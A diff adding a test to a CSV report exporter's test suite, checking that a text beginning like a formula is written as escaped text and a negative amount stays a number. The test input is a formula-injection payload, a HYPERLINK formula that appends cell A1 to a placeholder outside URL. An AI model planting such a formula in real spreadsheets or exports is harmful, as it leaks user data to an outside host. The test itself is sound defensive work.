@@ -132,6 +132,13 @@ describe('the CSV file', () => {
     expect(rows[3]?.['金额(元) Amount (CNY)']).toBe('1234568.19');
   });
 
+  it('writes a text that begins like a formula as text, and a negative amount as a number', () => {
+    const row = { ...ROWS[0], name: '=HYPERLINK("http://x.example/?"&A1,"详情")', amount: '-12.50' };
+    const { rows } = readCsv(csvOf({ ...SHEET, rows: [row], total: undefined }));
+    expect(rows[0]?.['单位 Unit']).toBe(`'=HYPERLINK("http://x.example/?"&A1,"详情")`);
+    expect(rows[0]?.['金额(元) Amount (CNY)']).toBe('-12.50');
+  });
+
   it('is one file per sheet, the main sheet named plainly', async () => {
     const book: ReportBook = { ...BOOK, report: 'progress', sheets: [SHEET, { ...SHEET, slug: 'by-coordinating-unit' }] };
     const files = await reportFiles(book, 'csv', ABOUT);
